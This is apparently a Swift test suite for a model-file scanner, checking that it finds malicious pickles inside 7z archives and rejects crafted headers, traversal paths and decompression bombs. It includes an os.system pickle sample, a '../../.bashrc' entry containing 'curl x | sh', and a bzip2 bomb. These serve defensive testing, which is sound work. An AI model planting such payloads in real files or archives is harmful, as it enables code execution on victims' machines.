import BulwarkCore
import BulwarkFormats
@testable import BulwarkModels
import Foundation
import Testing

/// Writes 7z archives byte by byte (our own writer after the 7z format description: signature header,
/// streams info, files info), with stored, LZMA2 (uncompressed chunks), LZMA, Deflate (stored blocks) or
/// BZip2 coders.
enum SevenZipBuilder {
    enum Coder { case copy, lzma2, lzma, lzma2BCJ, ppmd, aes, deflate, bzip2, deflate64, deflateBCJ }

    static func number(_ v: UInt64) -> [UInt8] {
        for n in 0..<8 {
            let high = n == 0 ? v : v >> (8 * UInt64(n))
            if high < (UInt64(1) << (7 - UInt64(n))) {
                let prefix = UInt8((0xFF << (8 - n)) & 0xFF)
                return [prefix | UInt8(high)] + le(v, n)
            }
        }
        return [0xFF] + le(v, 8)
    }

    static func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8((v >> (8 * UInt64($0))) & 0xFF) } }

    /// LZMA2 made of uncompressed chunks (control 1 = dictionary reset, 2 = continue), then the end byte.
    static func lzma2Stored(_ data: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var i = 0
        while i < data.count {
            let n = min(65_536, data.count - i)
            out += [i == 0 ? 1 : 2, UInt8((n - 1) >> 8), UInt8((n - 1) & 0xFF)] + data[i..<(i + n)]
            i += n
        }
        return out + [0]
    }

    /// Raw DEFLATE made of stored blocks (BTYPE 00: a header byte with BFINAL, LEN, NLEN, the bytes).
    static func deflateStored(_ data: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var i = 0
        repeat {
            let n = min(65_535, data.count - i)
            let final: UInt8 = i + n >= data.count ? 1 : 0
            out += [final] + le(UInt64(n), 2) + le(UInt64(~UInt16(n)), 2) + data[i..<(i + n)]
            i += n
        } while i < data.count
        return out
    }

    /// (coders as id+properties in 7z order, packed bytes) for `data`.
    static func pack(_ data: [UInt8], _ coder: Coder) -> ([(id: [UInt8], props: [UInt8])], [UInt8]) {
        switch coder {
        case .copy: return ([([0x00], [])], data)
        case .lzma2: return ([([0x21], [0x10])], lzma2Stored(data))
        case .lzma2BCJ:
            // x86 BCJ leaves bytes without E8/E9 opcodes unchanged, so stored LZMA2 of the data decodes through it.
            return ([([0x21], [0x10]), ([0x03, 0x03, 0x01, 0x03], [])], lzma2Stored(data))
        case .lzma:
            let alone = StreamDecompressor.compress(.lzmaAlone, data, level: 1)!
            return ([([0x03, 0x01, 0x01], Array(alone[0..<5]))], Array(alone[13...]))
        case .deflate: return ([([0x04, 0x01, 0x08], [])], deflateStored(data))
        case .deflate64: return ([([0x04, 0x01, 0x09], [])], deflateStored(data))
        case .deflateBCJ: return ([([0x04, 0x01, 0x08], []), ([0x03, 0x03, 0x01, 0x03], [])], deflateStored(data))
        case .bzip2: return ([([0x04, 0x02, 0x02], [])], StreamDecompressor.compress(.bzip2, data, level: 1)!)
        case .ppmd: return ([([0x03, 0x04, 0x01], [6, 0, 0, 0x10, 0])], data)
        case .aes: return ([([0x06, 0xF1, 0x07, 0x01], [0x00])], data)
        }
    }

    static func folder(_ coders: [(id: [UInt8], props: [UInt8])]) -> [UInt8] {
        var out = number(UInt64(coders.count))
        for c in coders {
            out += [UInt8(c.id.count) | (c.props.isEmpty ? 0 : 0x20)] + c.id
            if !c.props.isEmpty { out += number(UInt64(c.props.count)) + c.props }
        }
        // A line: coder i+1 reads what coder i wrote; the packed stream feeds coder 0.
        for i in 0..<max(0, coders.count - 1) { out += number(UInt64(i + 1)) + number(UInt64(i)) }
        return out
    }

    /// Streams info of one folder holding `sizes` streams (CRCs given per stream).
    static func streamsInfo(packPos: Int, packSize: Int, coders: [(id: [UInt8], props: [UInt8])], sizes: [Int], crcs: [UInt32]) -> [UInt8] {
        let total = sizes.reduce(0, +)
        var out: [UInt8] = [0x06] + number(UInt64(packPos)) + number(1) + [0x09] + number(UInt64(packSize)) + [0x00]
        out += [0x07, 0x0B] + number(1) + [0x00] + folder(coders) + [0x0C]
        for _ in coders { out += number(UInt64(total)) }
        out += [0x00]
        out += [0x08, 0x0D] + number(UInt64(sizes.count))
        if sizes.count > 1 {
            out += [0x09]
            for s in sizes.dropLast() { out += number(UInt64(s)) }
        }
        out += [0x0A, 0x01]
        for c in crcs { out += le(UInt64(c), 4) }
        return out + [0x00, 0x00]
    }

    static func names(_ list: [String]) -> [UInt8] {
        var b: [UInt8] = [0x00]
        for n in list {
            for u in n.utf16 { b += [UInt8(u & 0xFF), UInt8(u >> 8)] }
            b += [0, 0]
        }
        return b
    }

    /// One solid folder holding every non-empty file; empty files are empty streams. `encodedHeader`
    /// packs the header itself (stored LZMA2), as 7-Zip does by default.
    static func archive(_ files: [(String, [UInt8])], coder: Coder = .lzma2, encodedHeader: Bool = false,
                        crcOverride: UInt32? = nil) -> [UInt8] {
        let withData = files.filter { !$0.1.isEmpty }
        let data = withData.flatMap(\.1)
        let (coders, packed) = pack(data, coder)
        var header: [UInt8] = [0x01, 0x04]
        header += streamsInfo(packPos: 0, packSize: packed.count, coders: coders, sizes: withData.map(\.1.count),
                              crcs: withData.map { crcOverride ?? CRC32.checksum($0.1) })
        header += [0x05] + number(UInt64(files.count))
        if withData.count < files.count {
            var bits = [UInt8](repeating: 0, count: (files.count + 7) / 8)
            for (i, f) in files.enumerated() where f.1.isEmpty { bits[i / 8] |= 0x80 >> UInt8(i % 8) }
            header += [0x0E] + number(UInt64(bits.count)) + bits
            let empties = files.count - withData.count
            var fileBits = [UInt8](repeating: 0xFF, count: (empties + 7) / 8) // empty files, not folders
            if empties % 8 != 0 { fileBits[fileBits.count - 1] = UInt8((0xFF << (8 - empties % 8)) & 0xFF) }
            header += [0x0F] + number(UInt64(fileBits.count)) + fileBits
        }
        let n = names(files.map(\.0))
        header += [0x11] + number(UInt64(n.count)) + n + [0x00, 0x00]
        var body = packed
        if encodedHeader {
            let packedHeader = lzma2Stored(header)
            let outer: [UInt8] = [0x17] + streamsInfoForHeader(packPos: body.count, packSize: packedHeader.count, size: header.count,
                                                                crc: CRC32.checksum(header))
            body += packedHeader
            header = outer
        }
        return signatureHeader(nextOffset: body.count, next: header) + body + header
    }

    static func streamsInfoForHeader(packPos: Int, packSize: Int, size: Int, crc: UInt32) -> [UInt8] {
        [0x06] + number(UInt64(packPos)) + number(1) + [0x09] + number(UInt64(packSize)) + [0x00]
            + [0x07, 0x0B] + number(1) + [0x00] + folder([([0x21], [0x10])]) + [0x0C] + number(UInt64(size))
            + [0x0A, 0x01] + le(UInt64(crc), 4) + [0x00, 0x00]
    }

    static func signatureHeader(nextOffset: Int, next: [UInt8], nextSizeOverride: UInt64? = nil) -> [UInt8] {
        let tail = le(UInt64(nextOffset), 8) + le(nextSizeOverride ?? UInt64(next.count), 8) + le(UInt64(CRC32.checksum(next)), 4)
        return [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04] + le(UInt64(CRC32.checksum(tail)), 4) + tail
    }

    /// A hand-written archive: the given header bytes after the signature header (no packed data).
    static func withHeader(_ header: [UInt8], body: [UInt8] = []) -> [UInt8] {
        signatureHeader(nextOffset: body.count, next: header) + body + header
    }
}

@Suite("7z archives")
struct SevenZipTests {
    static let evil = PickleExamples.osSystem
    static let benign = PickleBuilder.torchStateDict()

    func critical(_ f: [Finding]) -> Bool { f.contains { $0.ruleID == "pickle-dangerous-call" && $0.severity == .critical } }

    @Test(arguments: [SevenZipBuilder.Coder.copy, .lzma2, .lzma, .lzma2BCJ, .deflate, .bzip2])
    func pickleInsideIsScannedLikeAZipMember(coder: SevenZipBuilder.Coder) {
        for encoded in [false, true] {
            let z = SevenZipBuilder.archive([("docs/readme.txt", Array("hello\n".utf8)), ("archive/data.pkl", Self.evil),
                                             ("archive/empty.txt", []), ("archive/data/0", [UInt8](repeating: 7, count: 3000))],
                                            coder: coder, encodedHeader: encoded)
            let f = scanModel(z, path: "models/model.7z")
            #expect(critical(f), "\(coder) encoded=\(encoded): \(f.map(\.message))")
            #expect(f.contains { $0.location.archiveMember?.hasSuffix("archive/data.pkl") == true }, "\(coder)")
            #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" || $0.ruleID == "archive-zip-tampering" }, "\(coder): \(f.map(\.message))")
        }
    }

    @Test func readerListsFilesAndFolders() throws {
        let z = SevenZipBuilder.archive([("a.txt", [1, 2, 3]), ("dir/b.pkl", Self.evil), ("c", [])], coder: .lzma2, encodedHeader: true)
        let a = try SevenZipReader.read(MemoryBytes(z))
        #expect(a.encodedHeaderLevels == 1)
        #expect(a.entries.map(\.name) == ["a.txt", "dir/b.pkl", "c"])
        #expect(a.entries.map(\.hasStream) == [true, true, false])
        #expect(a.entries[1].offset == 3 && a.entries[1].size == Self.evil.count)
        #expect(a.folders.count == 1 && a.folders[0].method == "LZMA2" && a.folders[0].unsupported == nil)
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 20))
        #expect(r.stop == nil)
        #expect(r.output == [1, 2, 3] + Self.evil)
    }

    @Test func benignCheckpointInA7zIsClean() {
        for coder in [SevenZipBuilder.Coder.copy, .lzma2, .lzma, .deflate, .bzip2] {
            let z = SevenZipBuilder.archive([("archive/data.pkl", Self.benign), ("archive/version", Array("3\n".utf8)),
                                             ("archive/data/0", [UInt8](repeating: 0, count: 4096))], coder: coder, encodedHeader: true)
            #expect(serious(scanModel(z, path: "models/model.7z")).isEmpty, "\(coder)")
        }
    }

    @Test func unsupportedCodersAreUnscannableNeverClean() {
        for (coder, word) in [(SevenZipBuilder.Coder.ppmd, "PPMd"), (.aes, "AES"), (.deflate64, "Deflate64"), (.deflateBCJ, "Deflate")] {
            let z = SevenZipBuilder.archive([("archive/data.pkl", Self.evil)], coder: coder)
            let f = scanModel(z, path: "models/model.7z")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium && $0.message.contains(word) },
                    "\(word): \(f.map(\.message))")
        }
    }

    @Test func crcMismatchAndTraversalAreReported() {
        let bad = SevenZipBuilder.archive([("archive/data.pkl", Self.benign)], coder: .lzma2, crcOverride: 0xDEAD_BEEF)
        #expect(scanModel(bad, path: "m.7z").contains { $0.ruleID == "archive-zip-tampering" && $0.message.contains("CRC") })
        let out = SevenZipBuilder.archive([("../../.bashrc", Array("curl x | sh\n".utf8))], coder: .copy)
        #expect(scanModel(out, path: "m.7z").contains { $0.ruleID == "archive-path-traversal" })
    }

    // MARK: - Deflate and BZip2 folders

    static func fromHex(_ s: String) -> [UInt8] {
        var out: [UInt8] = []
        var it = s.utf8.makeIterator()
        func nibble(_ c: UInt8) -> UInt8 { c <= 0x39 ? c - 0x30 : c - 0x61 + 10 }
        while let h = it.next(), let l = it.next() { out.append(nibble(h) << 4 | nibble(l)) }
        return out
    }

    /// Written once with py7zr 1.1.4 (Python, `pip install py7zr`) and embedded here:
    ///   evil = b'\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R.'   # os.system('true'), protocol 2
    ///   with py7zr.SevenZipFile(buf, 'w', filters=[{'id': py7zr.FILTER_DEFLATE}]) as z:   # FILTER_BZIP2 below
    ///       z.writestr(b'weights for a demo model\n' * 3, 'readme.txt'); z.writestr(evil, 'archive/data.pkl')
    /// One solid folder of real compressed Deflate (coder 04 01 08) or BZip2 (04 02 02); py7zr packs the
    /// header itself with LZMA2.
    static let py7zrDeflate = "377abcaf271c0004b504cddcb4000000000000001500000000000000aeff9e192b4fcd4ccf28295648cb2f5248544849cdcd57c8cd4f49cde12a2759a2812939bf98abb8b2b82435972b82858181a1a4a834b535480f00e0008800755d0000813307ae0fd16ac5a0a090a07243d459a8a794e8d6f9ad32881e1cbcfddd415bdddb6274e07a2aa24a11d477a197d2b9843574b563d7b34e7b42d834bed2cfcd2fd5e36118574414e482f8c7fd6260cf3b00d96efcc23e84b94aeb3db20f5f9a2d9793a5e8c8a3f97bf69090e57b41e360ca00000017063701097d00070b010001212101180c80890000"
    static let py7zrBZip2 = "377abcaf271c00041ccf6087dd0000000000000015000000000000000eb26074425a6839314159265359e7a0dc2200002f53c05410400110402fe69ea04200200054564000001a11ea84d068da868f51b511823e766e862a48617eaa8b3223962f01f01cb9ea0923943a1d803c440a76e106894650cbe2ee48a70a121cf41b8440e0008800745d0000813307ae0fd39ccb3d40c090cee5cb76f64ce58568a0cc9de33d2fb3fcfde5a417cca836606e10be819ceefa396f361679d5efae46c5e3005989f5ce06b5e15fd0917ee6bb1e9df66b41978f3f9df670a4bf56a7f9f808a747dce6260f97c978cf33e38ffa5313af1765a85aa07262cee300000017066101097c00070b010001212101180c80890000"

    @Test func py7zrDeflateArchiveIsUnpackedAndItsPickleFoundAtHigh() throws {
        let z = Self.fromHex(Self.py7zrDeflate)
        let a = try SevenZipReader.read(MemoryBytes(z))
        #expect(a.folders.count == 1 && a.folders[0].method == "Deflate" && a.folders[0].unsupported == nil)
        #expect(a.entries.map(\.name) == ["readme.txt", "archive/data.pkl"])
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 20))
        #expect(r.stop == nil)
        #expect(r.output.count == 100 && r.output.starts(with: Array("weights for a demo model\n".utf8)))
        #expect(Array(r.output.suffix(25)).starts(with: [0x80, 0x02, 0x63, 0x6F, 0x73, 0x0A]))
        let f = scanModel(z, path: "models/model.7z")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.severity >= .high && $0.location.archiveMember == "archive/data.pkl" },
                "\(f.map(\.message))")
        #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" || $0.ruleID == "archive-zip-tampering" }, "\(f.map(\.message))")
    }

    @Test func py7zrBZip2ArchiveIsUnpackedAndItsPickleFoundAtHigh() throws {
        let z = Self.fromHex(Self.py7zrBZip2)
        let a = try SevenZipReader.read(MemoryBytes(z))
        #expect(a.folders.count == 1 && a.folders[0].method == "BZip2" && a.folders[0].unsupported == nil)
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 20))
        #expect(r.stop == nil && r.output.count == 100)
        let f = scanModel(z, path: "models/model.7z")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.severity >= .high && $0.location.archiveMember == "archive/data.pkl" },
                "\(f.map(\.message))")
        #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" || $0.ruleID == "archive-zip-tampering" }, "\(f.map(\.message))")
    }

    /// Every cut of the real archives: the payload is found or the archive is "cannot be scanned" (medium or
    /// above), never silently clean, never a crash.
    @Test func truncatedDeflateAndBZip2ArchivesAreNeverClean() {
        for hex in [Self.py7zrDeflate, Self.py7zrBZip2] {
            let z = Self.fromHex(hex)
            for cut in stride(from: 32, to: z.count, by: 1) {
                let f = scanModel(Array(z.prefix(cut)), path: "m.7z")
                #expect(f.contains { $0.severity >= .medium }, "cut at \(cut): \(f.map(\.message))")
            }
        }
    }

    /// Corrupt compressed data inside a readable archive: the folder is reported, what decoded before the
    /// break is inspected.
    @Test func corruptDeflateAndBZip2DataIsReported() throws {
        for coder in [SevenZipBuilder.Coder.deflate, .bzip2] {
            var z = SevenZipBuilder.archive([("data.pkl", Self.evil)], coder: coder)
            // The packed data starts right after the 32-byte signature header.
            z[32] ^= coder == .deflate ? 0x06 : 0xFF   // stored block -> reserved block type 3; bzip2 magic broken
            let f = scanModel(z, path: "m.7z")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity >= .medium && $0.message.contains("corrupt") },
                    "\(coder): \(f.map(\.message))")
        }
    }

    /// Declared output far above the data: a Deflate or BZip2 folder decodes what its data holds and stops.
    @Test func deflateAndBZip2OutputIsBounded() throws {
        // Incompressible bytes, so that the ratio limit stays out of the way.
        var x: UInt64 = 0x9E37_79B9_7F4A_7C15
        let big = (0..<(3 << 20)).map { _ in x = x &* 6364136223846793005 &+ 1442695040888963407; return UInt8(truncatingIfNeeded: x >> 33) }
        for coder in [SevenZipBuilder.Coder.deflate, .bzip2] {
            let z = SevenZipBuilder.archive([("a.bin", big)], coder: coder)
            var a = try SevenZipReader.read(MemoryBytes(z))
            let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 20))
            #expect(r.stop == .outputLimit && r.output.count == 1 << 20, "\(coder)")
            a.folders[0].unpackSize = 1 << 40
            let r2 = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 8 << 20))
            #expect(r2.output.count == big.count && r2.stop != nil, "\(coder): \(String(describing: r2.stop))")
        }
        // A bzip2 bomb (16 MiB of zeros in a few hundred bytes) stops at the ratio limit.
        let bomb = StreamDecompressor.compress(.bzip2, [UInt8](repeating: 0, count: 16 << 20), level: 9)!
        let header: [UInt8] = [0x01, 0x04] + SevenZipBuilder.streamsInfo(packPos: 0, packSize: bomb.count, coders: [([0x04, 0x02, 0x02], [])],
                                                                          sizes: [16 << 20], crcs: [0])
            + [0x05, 0x01, 0x11] + SevenZipBuilder.number(UInt64(SevenZipBuilder.names(["x.pkl"]).count)) + SevenZipBuilder.names(["x.pkl"]) + [0x00, 0x00]
        let z = SevenZipBuilder.withHeader(header, body: bomb)
        let a = try SevenZipReader.read(MemoryBytes(z))
        var l = StreamDecompressor.Limits(maxOutput: 1 << 30, maxRatio: 2_000, ratioFloor: 1 << 20)
        l.inputChunk = 64
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: l)
        #expect(r.stop == .ratioLimit, "\(String(describing: r.stop)) after \(r.output.count)")
    }

    // MARK: - Hostile headers

    /// Each crafted header must be refused with a one-line reason (reported as "cannot be scanned"),
    /// quickly and without a crash.
    @Test func craftedHeadersAreRefusedWithinBounds() {
        let n = SevenZipBuilder.number
        let huge = n(UInt64.max)
        let cases: [(String, [UInt8])] = [
            ("header past the end", SevenZipBuilder.signatureHeader(nextOffset: 1 << 40, next: [0x01, 0x00])),
            ("2^64 header size", SevenZipBuilder.signatureHeader(nextOffset: 0, next: [0x01], nextSizeOverride: UInt64.max)),
            ("2^64 files", SevenZipBuilder.withHeader([0x01, 0x05] + huge + [0x00, 0x00])),
            ("2^64 folders", SevenZipBuilder.withHeader([0x01, 0x04, 0x07, 0x0B] + huge + [0x00])),
            ("2^64 packed streams", SevenZipBuilder.withHeader([0x01, 0x04, 0x06, 0x00] + huge + [0x09])),
            ("2^64 coders", SevenZipBuilder.withHeader([0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x01, 0x00, 0x07, 0x0B, 0x01, 0x00] + huge)),
            ("truncated number", SevenZipBuilder.withHeader([0x01, 0x05, 0xFF, 0x01])),
            ("substream sizes above the folder", SevenZipBuilder.withHeader(
                [0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x04, 0x00, 0x07, 0x0B, 0x01, 0x00, 0x01, 0x01, 0x00, 0x0C, 0x04, 0x00,
                 0x08, 0x0D, 0x02, 0x09] + huge + [0x00, 0x00, 0x00], body: [1, 2, 3, 4])),
            ("unknown property", SevenZipBuilder.withHeader([0x01, 0x42, 0x00])),
            ("not a header", SevenZipBuilder.withHeader([0x33, 0x00])),
            ("external names", SevenZipBuilder.withHeader([0x01, 0x05, 0x01, 0x11, 0x02, 0x01, 0x00, 0x00, 0x00])),
        ]
        let start = Date()
        for (name, bytes) in cases {
            #expect(throws: SevenZipReader.Failure.self, "\(name)") { try SevenZipReader.read(MemoryBytes(bytes)) }
            let f = scanModel(bytes, path: "m.7z")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium }, "\(name): \(f.map(\.message))")
        }
        #expect(Date().timeIntervalSince(start) < 10)
    }

    /// Two copy coders, one reading its own output: not a chain, so the folder is "cannot be scanned".
    @Test func coderGraphThatIsNotAChainIsUnscannable() {
        let names = SevenZipBuilder.names(["x.pkl"])
        let header: [UInt8] = [0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x04, 0x00, 0x07, 0x0B, 0x01, 0x00,
                               0x02, 0x01, 0x00, 0x01, 0x00, 0x00, 0x00, 0x0C, 0x04, 0x04, 0x00, 0x00,
                               0x05, 0x01, 0x11] + SevenZipBuilder.number(UInt64(names.count)) + names + [0x00, 0x00]
        let z = SevenZipBuilder.withHeader(header, body: Array(Self.evil.prefix(4)))
        let a = try? SevenZipReader.read(MemoryBytes(z))
        #expect(a?.folders.first?.unsupported?.contains("chain") == true)
        #expect(scanModel(z, path: "m.7z").contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium })
    }

    /// An encoded header whose packed stream decodes to another encoded header pointing at itself.
    @Test func selfReferencingEncodedHeaderStops() {
        // The packed stream (at offset 0) is the encoded header itself, stored with the copy coder.
        func outer(_ size: Int) -> [UInt8] {
            [0x17, 0x06] + SevenZipBuilder.number(0) + [0x01, 0x09] + SevenZipBuilder.number(UInt64(size)) + [0x00, 0x07, 0x0B, 0x01, 0x00,
              0x01, 0x01, 0x00, 0x0C] + SevenZipBuilder.number(UInt64(size)) + [0x00, 0x00]
        }
        let header = outer(outer(20).count)
        let z = SevenZipBuilder.signatureHeader(nextOffset: 0, next: header) + header
        #expect(throws: SevenZipReader.Failure.self) { try SevenZipReader.read(MemoryBytes(z)) }
        #expect(scanModel(z, path: "m.7z").contains { $0.ruleID == "archive-unscannable-payload" })
    }

    /// Declared sizes far above the data (2^40 bytes, a 4 GiB dictionary) cost what the data holds.
    @Test func hugeDeclaredSizesCostOnlyTheData() throws {
        let z = SevenZipBuilder.archive([("data.pkl", Self.evil)], coder: .lzma)
        var a = try SevenZipReader.read(MemoryBytes(z))
        a.folders[0].unpackSize = 1 << 40
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 30))
        #expect(r.stop != nil)
        #expect(r.output.starts(with: Self.evil))
        // A 4 GiB LZMA dictionary with a small output decodes with a dictionary of the output's size.
        var props = SevenZipBuilder.pack(Self.evil, .lzma).0[0].props
        props[1...4] = [0xFF, 0xFF, 0xFF, 0xFF]
        let packed = SevenZipBuilder.pack(Self.evil, .lzma).1
        let header: [UInt8] = [0x01, 0x04] + SevenZipBuilder.streamsInfo(packPos: 0, packSize: packed.count, coders: [([0x03, 0x01, 0x01], props)],
                                                                          sizes: [Self.evil.count], crcs: [CRC32.checksum(Self.evil)])
            + [0x05, 0x01] + [0x11] + SevenZipBuilder.number(UInt64(SevenZipBuilder.names(["x.pkl"]).count)) + SevenZipBuilder.names(["x.pkl"]) + [0x00, 0x00]
        let big = SevenZipBuilder.withHeader(header, body: packed)
        #expect(critical(scanModel(big, path: "m.7z")))
    }

    /// Seeded mutations of valid archives: never a crash or a hang; the seeds reach their payload.
    @Test func mutatedArchivesNeverCrashOrHang() {
        let seeds = [SevenZipBuilder.archive([("a/data.pkl", Self.evil), ("b.txt", [1, 2])], coder: .lzma2, encodedHeader: true),
                     SevenZipBuilder.archive([("data.pkl", Self.evil)], coder: .lzma),
                     SevenZipBuilder.archive([("x.pkl", Self.evil), ("y", [])], coder: .copy),
                     SevenZipBuilder.archive([("a/data.pkl", Self.evil), ("b.txt", [1, 2])], coder: .deflate, encodedHeader: true),
                     SevenZipBuilder.archive([("data.pkl", Self.evil), ("c.txt", Array("abc".utf8))], coder: .bzip2),
                     SevenZipTests.fromHex(SevenZipTests.py7zrDeflate), SevenZipTests.fromHex(SevenZipTests.py7zrBZip2)]
        for s in seeds { #expect(critical(scanModel(s, path: "m.7z"))) }
        var rng = SeededRandom(state: 77)
        let start = Date()
        for i in 0..<1_400 {
            var b = seeds[i % seeds.count]
            switch rng.next() % 4 {
            case 0: b = Array(b.prefix(Int(rng.next() % UInt64(b.count))))
            default:
                for _ in 0..<(1 + Int(rng.next() % 4)) {
                    let at = Int(rng.next() % UInt64(b.count))
                    b[at] = rng.next() % 3 == 0 ? 0xFF : UInt8(truncatingIfNeeded: rng.next())
                }
            }
            _ = scanModel(b, path: "m.7z")
            _ = try? SevenZipReader.read(MemoryBytes(b))
        }
        #expect(Date().timeIntervalSince(start) < 60)
    }
}
